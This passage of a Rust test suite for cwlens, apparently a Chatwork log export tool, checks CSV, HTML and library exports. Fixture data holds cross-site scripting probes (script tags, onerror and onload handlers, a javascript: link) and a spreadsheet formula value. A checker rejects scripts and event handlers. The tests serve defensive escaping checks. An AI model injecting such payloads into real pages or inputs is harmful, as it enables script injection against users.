        Ok(output) => {
            assert!(output.status.success(), "soffice failed: {output:?}");
            true
        }
        Err(_) => false,
    }
}

#[test]
fn spreadsheet_keeps_long_ids_and_multiline_bodies() {
    if std::process::Command::new("soffice")
        .arg("--version")
        .output()
        .is_err()
    {
        eprintln!("note: soffice (LibreOffice) not found; skipping the spreadsheet round trip");
        return;
    }
    let mut room = b01_room();
    room.messages.push((
        "1702215611007785349",
        "7",
        "試験 太郎",
        "2023-04-01 09:01:00",
        "",
        "1行目\n2行目, カンマ \"引用\"",
    ));
    room.messages.push((
        "1702215611007785350",
        "7",
        "試験 太郎",
        "2023-04-01 09:02:00",
        "",
        "=1+1",
    ));
    let fixture = Fixture::new(&[room]);
    let out = fixture.path("sheet.csv");
    fixture.export_ok(&["--lang", "en", "--format", "csv", "--out", out_arg(&out)]);

    let profile = fixture.path("lo-profile");
    let xlsx_dir = fixture.path("xlsx");
    // Comma separator, double quote, UTF-8, from line 1: what opening the file does.
    assert!(soffice_convert(
        &out,
        "xlsx",
        &xlsx_dir,
        &profile,
        Some("CSV:44,34,76,1")
    ));
    let back_dir = fixture.path("back");
    assert!(soffice_convert(
        &xlsx_dir.join("sheet.xlsx"),
        "csv:Text - txt - csv (StarCalc):44,34,76,1",
        &back_dir,
        &profile,
        None
    ));
    let rows = parse_csv(&fs::read(back_dir.join("sheet.csv")).unwrap());
    let header = &rows[0];
    let message_ids: Vec<&str> = rows[1..]
        .iter()
        .map(|row| row[column(header, "message_id")].as_str())
        .collect();
    assert_eq!(
        message_ids,
        [
            "1702215611007785348",
            "1702215611007785349",
            "1702215611007785350"
        ]
    );
    let raw = column(header, "body_raw");
    assert_eq!(rows[1][raw], "お疲れ様です。①の件、髙橋さんへ🙏");
    assert_eq!(rows[2][raw], "1行目\n2行目, カンマ \"引用\"");
    // The neutralized formula stays text: the apostrophe is shown, nothing is evaluated.
    assert_eq!(rows[3][raw], "'=1+1");
}

// ---------------------------------------------------------------------------
// HTML

/// Builds a room whose names and bodies try to inject HTML.
fn b18_room() -> RoomFixture {
    let mut room = RoomFixture::group("61", "<img src=x onerror=alert(1)>定例");
    room.members = vec![
        ("31", "見本\"><script>alert(2)</script>"),
        ("32", "試験 太郎"),
    ];
    room.messages = vec![
        (
            "7001",
            "31",
            "見本\"><script>alert(2)</script>",
            "2023-04-01 09:00:00",
            "",
            "[info][title]<b>注意</b>[/title]詳細は javascript:alert(3)[/info]",
        ),
        (
            "7002",
            "32",
            "試験 太郎",
            "2023-04-01 09:01:00",
            "",
            "https://example.invalid/?q=<x>&a=\"1\"",
        ),
        (
            "7003",
            "32",
            "試験 太郎",
            "2023-04-01 09:02:00",
            "",
            "&lt;script&gt;",
        ),
        (
            "7004",
            "32",
            "試験 太郎",
            "2023-04-01 09:03:00",
            "",
            "[qt][qtmeta aid=31 time=1680307200]<svg onload=alert(4)>[/qt]' onmouseover='x",
        ),
    ];
    room
}

/// Asserts what every page must satisfy: no script, no event handler
/// attribute, links only to http(s) or to pages and anchors of the export.
fn assert_safe_html(html: &str) {
    let document = scraper::Html::parse_document(html);
    let all = scraper::Selector::parse("*").unwrap();
    let mut links = 0;
    for element in document.select(&all) {
        let name = element.value().name();
        assert_ne!(name, "script");
        assert_ne!(name, "iframe");
        assert_ne!(name, "object");
        assert_ne!(name, "embed");
        for (attribute, value) in element.value().attrs() {
            assert!(
                !attribute.to_ascii_lowercase().starts_with("on"),
                "event handler {attribute}={value:?} on <{name}>"
            );
            if matches!(attribute, "href" | "src" | "action" | "formaction") {
                links += 1;
                let internal = value.starts_with('#')
                    || value.split('#').next().is_some_and(|page| {
                        page.ends_with(".html")
                            && page
                                .bytes()
                                .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'.')
                    });
                assert!(
                    value.starts_with("https://") || value.starts_with("http://") || internal,
                    "{attribute}={value:?} on <{name}>"
                );
            }
        }
    }
    let csp = scraper::Selector::parse("meta[http-equiv=\"Content-Security-Policy\"]").unwrap();
    let policy = document
        .select(&csp)
        .next()
        .expect("no Content-Security-Policy meta")
        .value()
        .attr("content")
        .unwrap();
    assert!(policy.contains("default-src 'none'"), "{policy}");
    let _ = links;
}

fn text_of(html: &str, selector: &str) -> Vec<String> {
    let document = scraper::Html::parse_document(html);
    let selector = scraper::Selector::parse(selector).unwrap();
    document
        .select(&selector)
        .map(|element| element.text().collect::<String>())
        .collect()
}

#[test]
fn html_b18_data_cannot_inject_markup() {
    let fixture = Fixture::new(&[b18_room()]);
    let out = fixture.path("b18.html");
    fixture.export_ok(&["--format", "html", "--room", "61", "--out", out_arg(&out)]);
    let html = fs::read_to_string(&out).unwrap();
    assert_safe_html(&html);

    let bodies = text_of(&html, "article .body");
    assert!(
        bodies.iter().any(|body| body.contains("<b>注意</b>")),
        "{bodies:?}"
    );
    assert!(
        bodies
            .iter()
            .any(|body| body.contains("javascript:alert(3)"))
    );
    assert!(
        bodies.iter().any(|body| body == "&lt;script&gt;"),
        "{bodies:?}"
    );
    let senders = text_of(&html, "article .sender");
    assert!(
        senders
            .iter()
            .any(|sender| sender.contains("<script>alert(2)</script>"))
    );
    let headings = text_of(&html, "section.room h2");
    assert_eq!(headings, ["<img src=x onerror=alert(1)>定例"]);

    let document = scraper::Html::parse_document(&html);
    let links = scraper::Selector::parse("article a[href^=\"http\"]").unwrap();
    let link = document.select(&links).next().unwrap();
    assert_eq!(
        link.value().attr("href"),
        Some("https://example.invalid/?q=")
    );
    assert_eq!(link.value().attr("rel"), Some("noopener noreferrer"));
}

#[test]
fn html_report_header_and_japanese_rendering() {
    let mut room = history_room();
    room.messages.push((
        "3003",
        "7",
        "試験 太郎",
        "2023-04-01 09:20:00",
        "",
        "[To:8]試験 花子さん\n[info][title][dtext:task_added][/title][task aid=8 st=open lt=0]見積書の確認[/task][/info]",
    ));
    let fixture = Fixture::new(&[room, b01_room()]);
    let out = fixture.path("report.html");
    fixture.export_ok(&["--format", "html", "--room", "59", "--out", out_arg(&out)]);
    let html = fs::read_to_string(&out).unwrap();
    assert_safe_html(&html);
    assert!(html.starts_with("<!DOCTYPE html>"));
    assert!(html.contains("<html lang=\"ja\">"));
    let header = text_of(&html, "header.report table.meta td").join("\n");
    assert!(header.contains("調査 太郎"), "{header}");
    assert!(header.contains("テスト調査"), "{header}");
    assert!(
        header.contains(concat!("cwlens ", env!("CARGO_PKG_VERSION"))),
        "{header}"
    );
    assert!(header.contains("ルーム: 発注"), "{header}");
    let hashes = text_of(&html, "header.report td.hash");
    let members = sha256_hex(&fixture.root().join("export/members/members.csv"));
    assert!(hashes.contains(&members), "{hashes:?}");

    let senders = text_of(&html, "article .sender");
    assert!(
        senders.contains(&"見本 次郎【解約済】".to_string()),
        "{senders:?}"
    );
    let diffs = text_of(&html, ".history .diff ins");
    assert_eq!(diffs, ["0"]);
    let history = text_of(&html, ".history").join("\n");
    assert!(history.contains("100万円で発注します"), "{history}");
    assert!(text_of(&html, ".system").contains(&"タスクを追加しました".to_string()));
    assert!(text_of(&html, ".mention").contains(&"To: 試験 花子".to_string()));
    assert!(text_of(&html, ".task-head")[0].contains("タスク（未完了）"));
    assert!(html.contains("@page { size: A4"));
}

#[test]
fn html_query_marks_hits() {
    let fixture = Fixture::new(&[history_room(), b01_room()]);
    let out = fixture.path("hits.html");
    fixture.export_ok(&[
        "--format",
        "html",
        "--query",
        "了解",
        "--out",
        out_arg(&out),
    ]);
    let html = fs::read_to_string(&out).unwrap();
    assert_safe_html(&html);
    assert_eq!(text_of(&html, "article").len(), 1);
    assert_eq!(text_of(&html, "article mark"), ["了解"]);
}

#[test]
fn html_organization_is_a_folder() {
    let fixture = Fixture::new(&[history_room(), b01_room(), b18_room()]);
    let out = fixture.path("org");
    fixture.export_ok(&["--format", "html", "--out", out_arg(&out)]);
    let mut names: Vec<String> = fs::read_dir(&out)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            "index.html",
            "manifest.json",
            "room-55.html",
            "room-59.html",
            "room-61.html"
        ]
    );
    for name in &names {
        if name.ends_with(".html") {
            assert_safe_html(&fs::read_to_string(out.join(name)).unwrap());
        }
    }
    let index = fs::read_to_string(out.join("index.html")).unwrap();
    let document = scraper::Html::parse_document(&index);
    let toc = scraper::Selector::parse("nav.toc a").unwrap();
    let targets: Vec<&str> = document
        .select(&toc)
        .map(|link| link.value().attr("href").unwrap())
        .collect();
    assert_eq!(targets.len(), 3);
    assert!(targets.contains(&"room-61.html"));

    let manifest = read_manifest(&out.join("manifest.json"));
    let outputs = manifest["outputs"].as_array().unwrap();
    assert_eq!(outputs.len(), 4);
    for output in outputs {
        let path = out.join(output["path"].as_str().unwrap());
        assert_eq!(output["sha256"], sha256_hex(&path));
    }
    assert_eq!(manifest["scope"]["kind"], "organization");
    assert_eq!(manifest["format"], "html");
}

#[test]
fn html_in_english() {
    let fixture = Fixture::new(&[history_room()]);
    let out = fixture.path("en.html");
    fixture.export_ok(&[
        "--lang",
        "en",
        "--format",
        "html",
        "--room",
        "59",
        "--out",
        out_arg(&out),
    ]);
    let html = fs::read_to_string(&out).unwrap();
    assert!(html.contains("<html lang=\"en\">"));
    assert!(text_of(&html, "h1")[0].contains("Chatwork log investigation report"));
    let senders = text_of(&html, "article .sender");
    assert!(
        senders.contains(&"見本 次郎 (resigned)".to_string()),
        "{senders:?}"
    );
}

// ---------------------------------------------------------------------------
// Library API

#[test]
fn cancelled_export_leaves_nothing() {
    let fixture = Fixture::new(&[history_room(), b01_room()]);
    let case = cwlens::store::Case::open(fixture.case()).unwrap();
    let out = fixture.path("cancelled.csv");
    let request = cwlens::export::ExportRequest::new(
        cwlens::export::Scope::Organization,
        cwlens::export::Format::Csv,
        out.clone(),
    );
    let mut calls = 0;
    let result = cwlens::export::run(&case, &request, &mut |_, _| {
        calls += 1;
        calls < 2
    });
    assert!(matches!(
        result,
        Err(cwlens::export::ExportError::Cancelled)
    ));
    let left: Vec<_> = fs::read_dir(fixture.root())
        .unwrap()
        .map(|entry| entry.unwrap().file_name())
        .filter(|name| name.to_string_lossy().starts_with("cancelled"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

#[test]
fn library_exports_selected_messages() {
    let fixture = Fixture::new(&[history_room(), b01_room()]);
    let case = cwlens::store::Case::open(fixture.case()).unwrap();
    let reader = cwlens::query::read::CaseReader::open(&case).unwrap();
    let room = reader
        .rooms(cwlens::query::read::RoomSort::Name)
        .unwrap()
        .into_iter()
        .find(|room| room.room_id == "59")
        .unwrap();
    let keys: Vec<i64> = reader
        .room_messages(room.room_key, 0, 10)
        .unwrap()
        .iter()
        .map(|message| message.msg_key)
        .collect();

    let out = fixture.path("view.html");
    let request = cwlens::export::ExportRequest::new(
        cwlens::export::Scope::Messages(vec![keys[1], keys[0], keys[1]]),
        cwlens::export::Format::Html,
        out.clone(),
    );
    let mut last = (0, 0);
    let report = cwlens::export::run(&case, &request, &mut |done, total| {
        last = (done, total);
        true
    })
    .unwrap();

    assert_eq!(report.counts.messages, 2);
    assert_eq!(last, (2, 2));
    let html = fs::read_to_string(&out).unwrap();
    let ids: Vec<String> = scraper::Html::parse_document(&html)
        .select(&scraper::Selector::parse("article").unwrap())
        .map(|article| article.value().attr("id").unwrap().to_string())
        .collect();
    assert_eq!(ids, ["m-3001", "m-3002"]);
}

/// An investigator's note on a message reaches the CSV and the HTML.
#[test]
fn notes_reach_csv_and_html() {
    let fixture = Fixture::new(&[history_room()]);
    {
        let case = cwlens::store::Case::open(fixture.case()).unwrap();
        let msg_key: i64 = case
            .conn()
            .query_row(
                "SELECT msg_key FROM messages WHERE message_id = 3002",
                [],
                |row| row.get(0),
            )
            .unwrap();
        cwlens::store::annotations::set_note(&case, msg_key, Some("本人に確認済み")).unwrap();
    }
    let csv = fixture.path("noted.csv");
    fixture.export_ok(&["--format", "csv", "--out", out_arg(&csv)]);
    let rows = parse_csv(&fs::read(&csv).unwrap());
    let noted = rows.iter().find(|row| id_value(&row[3]) == "3002").unwrap();
    assert_eq!(noted[column(&rows[0], "メモ")], "本人に確認済み");

    let html = fixture.path("noted.html");
    fixture.export_ok(&["--format", "html", "--room", "59", "--out", out_arg(&html)]);
    let page = fs::read_to_string(&html).unwrap();
    assert!(page.contains("調査メモ: 本人に確認済み"), "{page}");
}
